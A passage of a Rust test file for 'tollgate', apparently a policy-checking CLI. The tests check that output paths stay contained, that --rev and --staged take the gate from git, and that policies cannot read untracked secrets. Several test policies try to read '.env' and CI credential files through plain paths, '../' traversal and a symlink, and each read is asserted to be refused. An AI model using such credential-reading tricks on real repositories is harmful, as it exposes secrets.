        // `--staged` reads the staged config.
        git(&s.root, &["add", ".tollgate.yaml"]);
        let path = entry.split_once('=').unwrap().1;
        for mode in [&["check"][..], &["check", "--staged"]] {
            let run = tollgate(&s.root, mode);
            refused(&run, &[&format!(".tollgate.yaml:2:10: `output`: {path}: not written: "), want]);
        }
        assert!(!s.root.join(path).exists(), "{entry}");
    }
    let good = "[json=out/r.json, sarif=out/r.sarif, sarif=out/r.sarif.json, junit=out/r.xml, markdown=out/r.md, \
                markdown=out/r.markdown, github=out/r.txt, human=out/r.log, json=out/UPPER.JSON]";
    write(&s.root, ".tollgate.yaml", format!("exclude: [\"out/**\"]\noutput: {good}\nschemas: false\n"));
    tollgate(&s.root, &["check"]).expect_code(0);
    let mut written = entries(&s.root.join("out"));
    written.sort();
    assert_eq!(
        written,
        ["UPPER.JSON", "r.json", "r.log", "r.markdown", "r.md", "r.sarif", "r.sarif.json", "r.txt", "r.xml"]
    );
    assert!(!s.root.join("pwned").exists());
    // The command line names any file it likes.
    tollgate(&s.root, &["check", "--config", "/dev/null", "--no-schemas", "-o", "github=Makefile"]).expect_code(0);
    assert!(s.root.join("Makefile").is_file());
}

/// A policy that reads `path` with `parse_config_file` and reports what it got or why not.
fn reporting_reader(path: &str) -> String {
    format!(
        "package main\nimport rego.v1\ndeny contains msg if {{\n  input.kind == \"ConfigMap\"\n  x := parse_config_file({path:?})\n  msg := sprintf(\"got %v\", [x])\n}}\n"
    )
}

/// The one finding of a run of [`reporting_reader`]: its rule and message.
#[track_caller]
fn read_result(run: &Run) -> (String, String) {
    let report = run.json();
    let f = findings(&report).iter().find(|f| f["source"] == "policy").unwrap_or_else(|| panic!("{report:#}"));
    (f["rule"].as_str().unwrap().to_string(), f["message"].as_str().unwrap().to_string())
}

/// `parse_config_file` reads only files git tracks: an untracked `.env` or the `gha-creds-*.json`
/// a CI auth step writes into the checkout is nobody's commit, and a policy from the repository
/// used to put it into the report. Worktree mode reads tracked files (from disk), `--rev` the
/// commit and `--staged` the index (never the disk); a `-p` directory of the command line is the
/// user's. A refused read is a `policy/runtime-error` naming the path.
#[test]
fn parse_config_file_reads_only_what_git_tracks() {
    let s = site();
    write(&s.root, "cm.yaml", CONFIGMAP);
    write(&s.root, "conf/app.yaml", "token: committed\n");
    write(&s.root, ".gitignore", ".env\ngha-creds-*.json\n");
    commit_all(&s.root, "base");
    write(&s.root, ".env", "token: hunter2-env\n");
    write(&s.root, "gha-creds-4f2a.json", "{\"token\": \"hunter2-creds\"}\n");
    write(&s.root, "untracked.yaml", "token: hunter2-untracked\n");
    symlink(".env", s.root.join("env-link.yaml")).unwrap();
    git(&s.root, &["add", "-f", "env-link.yaml"]);

    let pol = s.outside.join("pol");
    fs::create_dir(&pol).unwrap();
    let pol_arg = pol.to_str().unwrap();
    for path in [".env", "gha-creds-4f2a.json", "untracked.yaml", "./conf/../.env"] {
        fs::write(pol.join("read.rego"), reporting_reader(path)).unwrap();
        let run = tollgate(&s.root, &["check", "--builtin", "none", "-p", pol_arg, "-o", "json"]);
        run.expect_code(1);
        assert!(!run.stdout.contains("hunter2"), "{path}: {}", run.stdout);
        let (rule, msg) = read_result(&run);
        assert_eq!(rule, "policy/runtime-error", "{path}");
        assert!(msg.contains(&format!("{path}: not read: git does not track it")), "{path}: {msg}");
    }
    // A tracked link to an untracked file is refused: the file read is the link's target.
    fs::write(pol.join("read.rego"), reporting_reader("env-link.yaml")).unwrap();
    let run = tollgate(&s.root, &["check", "--builtin", "none", "-p", pol_arg, "-o", "json"]);
    assert!(!run.stdout.contains("hunter2"), "{}", run.stdout);
    assert!(read_result(&run).1.contains("git does not track it (.env, through a symbolic link)"));
    git(&s.root, &["rm", "-q", "--cached", "env-link.yaml"]);

    // Tracked: read from disk in worktree mode (a local edit shows), from the commit with --rev
    // and from the index with --staged.
    fs::write(pol.join("read.rego"), reporting_reader("conf/app.yaml")).unwrap();
    let check = |extra: &[&str]| {
        let args = [&["check", "--builtin", "none", "-p", pol_arg, "-o", "json"][..], extra].concat();
        read_result(&tollgate(&s.root, &args)).1
    };
    write(&s.root, "conf/app.yaml", "token: staged\n");
    git(&s.root, &["add", "conf/app.yaml"]);
    write(&s.root, "conf/app.yaml", "token: on-disk\n");
    assert_eq!(check(&[]), "got {\"token\": \"on-disk\"}");
    assert_eq!(check(&["--rev", "HEAD"]), "got {\"token\": \"committed\"}");
    assert_eq!(check(&["--staged"]), "got {\"token\": \"staged\"}");
    // Untracked files are in no commit and not in the index.
    fs::write(pol.join("read.rego"), reporting_reader("untracked.yaml")).unwrap();
    assert!(
        check(&["--rev", "HEAD"]).contains("untracked.yaml: no such file in HEAD"),
        "{}",
        check(&["--rev", "HEAD"])
    );
    assert!(check(&["--staged"]).contains("untracked.yaml: no such file in the index"));

    // Under a `-p` directory named on the command line, untracked files are the user's.
    write(&s.root, "policy/read.rego", reporting_reader("policy/local.yaml"));
    write(&s.root, "policy/local.yaml", "token: library\n");
    for mode in [&[][..], &["--rev", "HEAD"], &["--staged"]] {
        let args = [&["check", "--builtin", "none", "-p", "policy", "-o", "json"][..], mode].concat();
        assert_eq!(read_result(&tollgate(&s.root, &args)).1, "got {\"token\": \"library\"}", "{mode:?}");
    }
    // Outside a git repository the directory's files are read as before.
    let plain = tempdir();
    write(plain.path(), "cm.yaml", CONFIGMAP);
    write(plain.path(), "local.yaml", "token: plain\n");
    fs::write(pol.join("read.rego"), reporting_reader("local.yaml")).unwrap();
    let run = tollgate(plain.path(), &["check", "--builtin", "none", "-p", pol_arg, "-o", "json"]);
    assert_eq!(read_result(&run).1, "got {\"token\": \"plain\"}");
}

const DENY_NAMED: &str = "package main\nimport rego.v1\ndeny contains msg if {\n  input.kind == \"ConfigMap\"\n  input.metadata.name in data.denied\n  msg := sprintf(\"%s is denied\", [input.metadata.name])\n}\n";

/// With `--rev` the repository's config comes from the commit, and so do the `policy:`, `data:`
/// and `schema-location:` directories it names (they used to be read from the working tree, so a
/// checkout other than the commit, or local edits, changed the gate of the commit); with
/// `--staged` the config and those directories come from the index. `-p`/`-d` on the command
/// line stay disk paths.
#[test]
fn rev_and_staged_read_the_gate_the_config_names_from_git() {
    let s = site();
    write(&s.root, ".tollgate.yaml", "policy: [policy]\ndata: [data]\nschema-location: [schemas]\nbuiltin: none\n");
    write(&s.root, "policy/deny.rego", DENY_NAMED);
    write(&s.root, "data/d.yaml", "denied: [c]\n");
    write(&s.root, "schemas/widget-example-v1.json", WIDGET_SCHEMA);
    write(&s.root, "apps/cm.yaml", CONFIGMAP);
    write(&s.root, "apps/w.yaml", "apiVersion: example.com/v1\nkind: Widget\nmetadata: {name: w}\nspec: {}\n");
    commit_all(&s.root, "gate");
    let rules = |run: &Run| -> Vec<String> {
        let report = run.json();
        let mut v: Vec<String> = findings(&report).iter().map(|f| f["rule"].as_str().unwrap().to_string()).collect();
        v.sort();
        v
    };
    let want = ["main.deny", "schema/missing-required"];
    let run = tollgate(&s.root, &["check", "-o", "json"]);
    run.expect_code(1);
    assert_eq!(rules(&run), want);

    // The working tree weakens every gate input (and adds an untracked policy that would not
    // even compile), and the config to match.
    write(&s.root, "policy/deny.rego", "package main\nimport rego.v1\ndeny contains \"never\" if false\n");
    write(&s.root, "policy/extra.rego", "package main\ndeny[x] {\n");
    write(&s.root, "data/d.yaml", "denied: []\n");
    write(&s.root, "schemas/widget-example-v1.json", "{}");
    let run = tollgate(&s.root, &["check", "-o", "json"]);
    refused(&run, &["policy/extra.rego"]);
    let run = tollgate(&s.root, &["check", "--rev", "HEAD", "-o", "json"]);
    run.expect_code(1);
    assert_eq!(rules(&run), want, "--rev HEAD judged by the working tree's gate");
    let run = tollgate(&s.root, &["check", "--staged", "-o", "json"]);
    run.expect_code(1);
    assert_eq!(rules(&run), want, "--staged judged by the working tree's gate");

    // The config too: a local `fail-on: never` neither changes --rev nor --staged; staging it
    // changes --staged.
    write(
        &s.root,
        ".tollgate.yaml",
        "policy: [policy]\ndata: [data]\nschema-location: [schemas]\nbuiltin: none\nfail-on: never\n",
    );
    tollgate(&s.root, &["check", "--rev", "HEAD", "-o", "json"]).expect_code(1);
    tollgate(&s.root, &["check", "--staged", "-o", "json"]).expect_code(1);
    fs::remove_file(s.root.join("policy/extra.rego")).unwrap();
    git(&s.root, &["add", "-A"]);
    tollgate(&s.root, &["check", "--staged", "-o", "json"]).expect_code(0);
    tollgate(&s.root, &["check", "--rev", "HEAD", "-o", "json"]).expect_code(1);

    // A directory the config names that the commit lacks is an error, even when it is on disk.
    git(&s.root, &["reset", "-q", "--hard"]);
    write(&s.root, ".tollgate.yaml", "policy: [policy, more]\nbuiltin: none\n");
    write(&s.root, "more/m.rego", DENY_NAMED);
    commit_all(&s.root, "config names more");
    git(&s.root, &["rm", "-q", "-r", "--cached", "more"]);
    git(&s.root, &["commit", "-q", "--no-verify", "-m", "more is local only"]);
    refused(
        &tollgate(&s.root, &["check", "--rev", "HEAD"]),
        &[".tollgate.yaml:1:18: more: no such file or directory in HEAD"],
    );
    refused(
        &tollgate(&s.root, &["check", "--staged"]),
        &[".tollgate.yaml:1:18: more: no such file or directory in the index"],
    );

    // On the command line, -p and -d are disk paths in every mode.
    write(&s.root, "policy/deny.rego", "package main\nimport rego.v1\ndeny contains \"never\" if false\n");
    let args = ["check", "--rev", "HEAD", "--config", "/dev/null", "--builtin", "none", "-p", "policy", "-d", "data"];
    tollgate(&s.root, &args).expect_code(0);
}

/// In a sparse checkout with a sparse index, a directory outside the cone is one index entry (its
/// files are neither on disk nor listed in the index): `--staged` reads the gate files the config
/// names there, and `parse_config_file`'s files, from the tree that entry names.
#[test]
fn staged_reads_the_gate_from_a_sparse_index() {
    let s = site();
    write(&s.root, "apps/cm.yaml", CONFIGMAP);
    write(&s.root, "policy/sub/p.rego", DENY_NAMED.replace("data.denied", "data.sparse.denied"));
    write(&s.root, "policy/read.rego", reporting_reader("conf/sub/app.yaml").replace("deny contains", "warn contains"));
    write(&s.root, "data/d.yaml", "sparse: {denied: [c]}\n");
    write(&s.root, "conf/sub/app.yaml", "token: from-the-tree\n");
    write(&s.root, ".tollgate.yaml", "policy: [policy]\ndata: [data/d.yaml]\nbuiltin: none\nschemas: false\n");
    commit_all(&s.root, "base");
    git(&s.root, &["sparse-checkout", "init", "--cone", "--sparse-index"]);
    git(&s.root, &["sparse-checkout", "set", "apps"]);
    let listed = git(&s.root, &["ls-files", "--sparse", "-s"]);
    assert!(listed.contains("040000") && !s.root.join("policy").exists(), "not a sparse index:\n{listed}");

    let run = tollgate(&s.root, &["check", "--staged", "-o", "json"]);
    run.expect_code(1);
    let report = run.json();
    let messages: Vec<&str> = findings(&report).iter().filter_map(|f| f["message"].as_str()).collect();
    assert!(messages.contains(&"c is denied"), "{messages:?}");
    assert!(messages.contains(&"got {\"token\": \"from-the-tree\"}"), "{messages:?}");
}
